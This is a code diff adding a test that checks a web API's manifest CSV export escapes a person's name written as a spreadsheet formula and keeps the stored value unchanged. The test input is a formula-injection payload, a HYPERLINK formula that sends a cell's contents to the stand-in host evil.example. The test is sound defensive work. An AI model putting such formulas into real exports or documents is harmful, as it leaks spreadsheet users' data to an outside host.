@@ -99,3 +99,23 @@ def test_the_manifest_exports_as_csv_with_the_rows_of_its_json(
     assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(exported.text)))
     assert rows == ok(officer.get(trip.url))["manifest"] and len(rows) == 2
+
+
+def test_a_name_written_as_a_formula_is_plain_text_in_the_manifest_csv(
+    client_for: Clients,
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+    case_id = _approved_case(client_for, formula)
+    officer = client_for("us-case-officer")
+    plan = {
+        "authority": "us-mx-1976",
+        "from_state": "US",
+        "to_state": "MX",
+        "seats": 1,
+        "planned_departure": f"{TODAY.isoformat()}T12:00:00Z",
+    }
+    url = f"/api/v1/movements/{ok(officer.post('/api/v1/movements', json=plan), 201)['id']}"
+    ok(officer.post(f"{url}/manifest", json={"case_id": case_id}), 201)
+    [row] = csv.DictReader(io.StringIO(officer.get(f"{url}/manifest.csv").text))
+    assert row["given_names"] == "'" + formula
+    assert ok(officer.get(url))["manifest"][0]["given_names"] == formula  # stored unchanged
